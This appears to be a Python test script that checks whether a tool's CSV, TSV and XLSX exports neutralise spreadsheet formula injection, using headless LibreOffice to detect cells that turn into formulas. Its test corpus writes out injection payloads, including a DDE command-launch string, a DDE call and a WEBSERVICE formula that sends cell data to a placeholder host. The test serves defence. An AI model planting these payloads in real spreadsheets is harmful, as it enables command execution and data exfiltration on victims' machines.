"""Has LibreOffice open exports of cells that look like formulas; see scripts/injection."""

import json
import os
import pathlib
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree

STARTERS = "=+-@\t\r\n＝＋－＠−﹦﹢﹣﹫"
BLANKS = ["", " ", "   ", "\u00a0", "\u3000", "\ufeff", "\u200b", " \u00a0 "]
PAYLOADS = [
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://x","y")',
    "1+1",
    "SUM(A1:A9)",
    'WEBSERVICE("http://x/"&A1)',
]
MORE = [
    "=", "@", "'=1", "''@SUM(1)", '="a,b;c|d"', "=1\u0301", "-5", "+49301", "'Round Midnight",
    "'", "1e5", "0123", "{=1+1}", "of:=1+1", "=DDE(\"soffice\";\"x\";\"y\")", "TRUE", "#REF!",
    "a;=1", 'a","=1', "a\t=1", "a\n=1+1", "a\r\n=1+1", "_x003D_1+1", "</t><f>1+1</f>",
]
CORPUS = [b + s + p for b in BLANKS for s in STARTERS for p in PAYLOADS] + MORE

NAMESPACES = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
TABLE = "{%s}" % NAMESPACES["table"]
TEXT = "{%s}" % NAMESPACES["text"]


def text_of(element):
    """The text of a paragraph: a run of blanks, a tab and a line break are elements."""
    text = element.text or ""
    for child in element:
        if child.tag == TEXT + "s":
            text += " " * int(child.get(TEXT + "c", "1"))
        elif child.tag == TEXT + "tab":
            text += "\t"
        elif child.tag == TEXT + "line-break":
            text += "\n"
        else:
            text += text_of(child)
        text += child.tail or ""
    return text


def cells_of(path):
    """The rows of a flat OpenDocument sheet, each a list of (text, formula)."""
    for row in ElementTree.parse(path).getroot().iter(TABLE + "table-row"):
        cells = []
        for cell in row.iter(TABLE + "table-cell"):
            paragraphs = [text_of(p) for p in cell.findall("text:p", NAMESPACES)]
            text = "\n".join(paragraphs)
            repeated = int(cell.get(TABLE + "number-columns-repeated", "1"))
            if repeated < 100:
                cells += [(text, cell.get(TABLE + "formula"))] * repeated
        if cells and int(row.get(TABLE + "number-rows-repeated", "1")) < 100:
            yield cells


def plain(text):
    """What formats may change: tsv has no tabs and line breaks, a sheet one kind of them."""
    return "".join(" " if c in "\t\r\n" else c for c in text.replace("\r\n", "\n"))


def main():
    program = os.path.abspath(sys.argv[1])
    folder = pathlib.Path(tempfile.mkdtemp(prefix="injection-"))
    environment = dict(os.environ, HOME=str(folder), EXPORT_DIR=str(folder))
    rows = [{"n": place, "cell": text} for place, text in enumerate(CORPUS)]
    (folder / "corpus.jsonl").write_text(
        "".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")

    def musicagent(line):
        return subprocess.run(
            [program, "--source", "catalog", "--quiet", "--no-init", "--trust", "-c", line],
            cwd=folder, env=environment, check=True, capture_output=True).stdout.decode()

    failures = 0
    filters = {"csv": "CSV:44,34,76", "tsv": "CSV:9,0,76", "xlsx": "Calc MS Excel 2007 XML"}
    for format, filter in filters.items():
        name = f"corpus.{format}"
        musicagent(f"read corpus.jsonl | export {name}")
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile",
             f"--infilter={filter}", "--convert-to", "fods", "--outdir", str(folder / format), name],
            cwd=folder, env=environment, check=True, capture_output=True, timeout=300)
        sheet = list(cells_of(folder / format / "corpus.fods"))[1:]
        formulas = [cell for cells in sheet for cell in cells if cell[1]]
        for cell in formulas[:10]:
            print(f"{format}: a formula: {cell!r}")
        changed = 0
        for cells, text in zip(sheet, CORPUS):
            shown = cells[1][0] if len(cells) > 1 else ""
            # What stands in front in csv and tsv is there to be seen.
            wanted = {plain(text), plain("'" + text)} if format != "xlsx" else {plain(text)}
            if plain(shown) not in wanted:
                changed += 1
                if changed <= 10:
                    print(f"{format}: {text!r} is shown as {shown!r}")
        failures += len(formulas) + (len(sheet) != len(CORPUS))
        print(f"{format}: {len(sheet)} of {len(CORPUS)} rows, {len(formulas)} formulas, "
              f"{changed} texts that LibreOffice shows otherwise")
        if format == "xlsx":
            failures += changed
            continue
        again = [json.loads(line) for line in musicagent(f"read {name} | as jsonl").splitlines()]
        lost = [
            (text, row["cell"]) for row, text in zip(again, CORPUS)
            if row["cell"] != text and (format == "csv" or row["cell"] != plain(text))
        ]
        for text, got in lost[:10]:
            print(f"{format}: {text!r} is read as {got!r}")
        print(f"{format}: {len(again)} rows are read again, {len(lost)} of them changed")
        failures += len(lost) + (len(again) != len(CORPUS))
    print("a folder to look at: " + str(folder) if failures else "nothing became a formula")
    sys.exit(1 if failures else 0)


main()
